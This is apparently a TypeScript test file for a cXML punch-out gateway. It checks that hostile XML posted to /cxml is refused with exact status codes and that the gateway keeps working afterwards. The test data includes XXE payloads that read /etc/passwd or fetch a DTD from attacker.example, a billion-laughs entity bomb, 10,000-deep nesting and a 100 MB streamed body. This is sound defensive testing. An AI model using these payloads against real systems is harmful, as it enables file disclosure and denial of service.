import { Readable } from 'node:stream';
import { request as undiciRequest } from 'undici';
import { afterAll, describe, expect, it } from 'vitest';
import { serveNode } from '../../src/runtime/node.ts';
import { setupRequest } from '../support/cxml-documents.ts';
import { findLinks } from '../support/html-forms.ts';
import { clickButton, cxmlFromForm, returnFormOf, startUrlOf, statusOf } from '../support/punchout-flow.ts';
import { createStack, GATEWAY_ORIGIN, type Stack } from '../support/stack.ts';

/**
 * Hostile XML against POST /cxml. Durations and heap growth are recorded and printed, not asserted (the
 * machine's load is not the gateway's behaviour); what is asserted is the exact Status, that the stream
 * was abandoned near the 1 MB limit, and that the gateway still serves a real punch-out afterwards.
 */
const measurements: string[] = [];
afterAll(() => console.log(`[hostile] POST /cxml\n${measurements.join('\n')}`));

function heapMb(): number {
  return process.memoryUsage().heapUsed / 1024 / 1024;
}

async function measure<T>(
  label: string,
  run: () => Promise<T>,
  describeResult: (r: T) => string,
): Promise<T> {
  const heapBefore = heapMb();
  const started = performance.now();
  const result = await run();
  const ms = performance.now() - started;
  measurements.push(
    `${label}: ${describeResult(result)} in ${ms.toFixed(0)} ms, heap ${(heapMb() - heapBefore).toFixed(1)} MB`,
  );
  return result;
}

const BASE = setupRequest({ payloadID: 'hostile@buyer.example' });
const withDoctype = (subset: string) =>
  BASE.replace(/<!DOCTYPE cXML SYSTEM "[^"]+">/, `<!DOCTYPE cXML [\n${subset}\n]>`);

async function stillServes(stack: Stack): Promise<void> {
  const answer = statusOf(await stack.postCxml(setupRequest()));
  expect(answer.code).toBe(200);
}

describe('hostile XML gets a clear cXML Status, never a fetch or an expansion', () => {
  const cases: [string, string, number, string][] = [
    [
      'external general entity',
      withDoctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">').replace(
        '<BuyerCookie>cookie-1</BuyerCookie>',
        '<BuyerCookie>&xxe;</BuyerCookie>',
      ),
      406,
      'DOCTYPE declares entity "xxe"; punchgate accepts no entity declarations',
    ],
    [
      'external parameter entity',
      withDoctype('<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n%remote;'),
      406,
      'DOCTYPE declares parameter entity "remote"; punchgate accepts no entity declarations',
    ],
    [
      'billion laughs',
      withDoctype(
        [
          '<!ENTITY lol "lol">',
          ...Array.from(
            { length: 9 },
            (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
          ),
        ].join('\n'),
      ).replace('<BuyerCookie>cookie-1</BuyerCookie>', '<BuyerCookie>&lol9;</BuyerCookie>'),
      406,
      'DOCTYPE declares entity "lol"; punchgate accepts no entity declarations',
    ],
  ];

  it.each(cases)('%s', async (label, body, code, detail) => {
    const stack = await createStack();
    const answer = await measure(
      label,
      () => stack.postCxml(body),
      (a) => `Status ${statusOf(a).code}`,
    );
    const status = statusOf(answer);
    expect(status.code).toBe(code);
    expect(status.detail).toBe(detail);
    expect(answer).not.toContain('root:');
    expect(stack.upstreamCalls).toEqual([]);
    await stillServes(stack);
  });

  it('an undeclared entity reference stays literal text and goes back to the buyer escaped', async () => {
    const stack = await createStack();
    const body = BASE.replace('<BuyerCookie>cookie-1</BuyerCookie>', '<BuyerCookie>&xxe;</BuyerCookie>');
    const catalog = await stack.browse(startUrlOf(await stack.postCxml(body)));
    const cart = await stack.browse(
      findLinks(catalog.text).find((l) => l.text.startsWith('Cart'))?.href ?? '',
    );
    const poom = cxmlFromForm(returnFormOf(await clickButton(stack, cart, 'Cancel and return')));
    expect(poom).toContain('<BuyerCookie>&amp;xxe;</BuyerCookie>');
  });

  it('10,000-deep nesting is refused at the depth cap', async () => {
    const stack = await createStack();
    const deep = BASE.replace(
      '<BuyerCookie>cookie-1</BuyerCookie>',
      `<BuyerCookie>${'<a>'.repeat(10_000)}x${'</a>'.repeat(10_000)}</BuyerCookie>`,
    );
    const answer = await measure(
      '10,000-deep nesting',
      () => stack.postCxml(deep),
      (a) => `Status ${statusOf(a).code}`,
    );
    expect(statusOf(answer)).toMatchObject({ code: 406, text: 'Not Acceptable' });
    expect(statusOf(answer).detail).toMatch(/nest/i);
    await stillServes(stack);
  });

  it.each([
    [
      'a 900 KB attribute',
      BASE.replace('operation="create"', `operation="create" x="${'A'.repeat(900_000)}"`),
    ],
    ['a 900 KB text node', BASE.replace('cookie-1', 'c'.repeat(900_000))],
    ['100,000 sibling elements', BASE.replace('<BuyerCookie>', `${'<x/>'.repeat(100_000)}<BuyerCookie>`)],
  ])('%s under the size cap gets an answer, not a crash', async (label, body) => {
    const stack = await createStack();
    const answer = await measure(
      label,
      () => stack.postCxml(body),
      (a) => `Status ${statusOf(a).code}`,
    );
    expect(statusOf(answer).code).toBeLessThan(500);
    await stillServes(stack);
  });

  it('a 5 MB body is refused as too large', async () => {
    const stack = await createStack();
    const body = BASE.replace('cookie-1', 'c'.repeat(5 * 1024 * 1024));
    const answer = await measure(
      '5 MB body',
      () => stack.postCxml(body),
      (a) => `Status ${statusOf(a).code}`,
    );
    expect(statusOf(answer)).toEqual({
      code: 406,
      text: 'Not Acceptable',
      detail: 'The document is larger than 1 MB.',
    });
  });
});

/** 100 MB of a never-ending BuyerCookie, produced only as fast as the reader pulls it. */
function hundredMegabytes(): { stream: ReadableStream<Uint8Array>; pulled: () => number } {
  const total = 100 * 1024 * 1024;
  const head = new TextEncoder().encode(BASE.slice(0, BASE.indexOf('cookie-1')));
  const chunk = new Uint8Array(64 * 1024).fill(0x63);
  let sent = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent >= total) return controller.close();
      const next = sent === 0 ? head : chunk;
      sent += next.byteLength;
      controller.enqueue(next);
    },
  });
  return { stream, pulled: () => sent };
}

describe('a 100 MB body streamed in is cut off near the 1 MB limit', () => {
  it('in process (a ReadableStream body)', async () => {
    const stack = await createStack();
    const { stream, pulled } = hundredMegabytes();
    const answer = await measure(
      '100 MB stream, in process',
      async () => {
        const res = await stack.gateway.app.fetch(
          new Request(`${GATEWAY_ORIGIN}/cxml`, {
            method: 'POST',
            body: stream,
            headers: { 'Content-Type': 'text/xml' },
            duplex: 'half',
          } as RequestInit),
        );
        return res.text();
      },
      (a) => `Status ${statusOf(a).code}, ${(pulled() / 1024 / 1024).toFixed(2)} MB read`,
    );
    expect(statusOf(answer)).toMatchObject({ code: 406, detail: 'The document is larger than 1 MB.' });
    expect(pulled()).toBeLessThan(2 * 1024 * 1024);
    await stillServes(stack);
  });

  it('over a real port (@hono/node-server), with and without Content-Length', async () => {
    const stack = await createStack();
    const server = await serveNode(stack.gateway.app, { port: 0 });
    try {
      for (const announced of [false, true]) {
        const { stream, pulled } = hundredMegabytes();
        const label = `100 MB upload over a port, ${announced ? 'with' : 'without'} Content-Length`;
        const answer = await measure(
          label,
          async () => {
            const res = await undiciRequest(`${server.url}/cxml`, {
              method: 'POST',
              body: Readable.fromWeb(stream as import('node:stream/web').ReadableStream),
              headers: {
                'Content-Type': 'text/xml',
                ...(announced && { 'Content-Length': String(100 * 1024 * 1024) }),
              },
            }).catch((error: unknown) => error);
            if (res instanceof Error) return `connection closed (${res.message})`;
            expect((res as { statusCode: number }).statusCode).toBe(200);
            return (res as { body: { text(): Promise<string> } }).body.text();
          },
          (a) =>
            `${a.startsWith('<') ? `Status ${statusOf(a).code}` : a}, ${(pulled() / 1024 / 1024).toFixed(2)} MB sent`,
        );
        if (answer.startsWith('<')) {
          // Announced, it is over the largest document anyone may send (a proven buyer's PO, 16 MB) and
          // refused before a byte is read; streamed, it is a setup and refused past its 1 MB.
          const limit = announced ? '16 MB' : '1 MB';
          expect(statusOf(answer)).toMatchObject({
            code: 406,
            detail: `The document is larger than ${limit}.`,
          });
        }
        // The server stopped reading long before 100 MB: the client could not push more than the
        // socket buffers hold past the limit.
        expect(pulled()).toBeLessThan(40 * 1024 * 1024);
      }
      const res = await fetch(`${server.url}/cxml`, { method: 'POST', body: setupRequest() });
      expect(statusOf(await res.text()).code).toBe(200);
    } finally {
      await server.close();
    }
  });
});
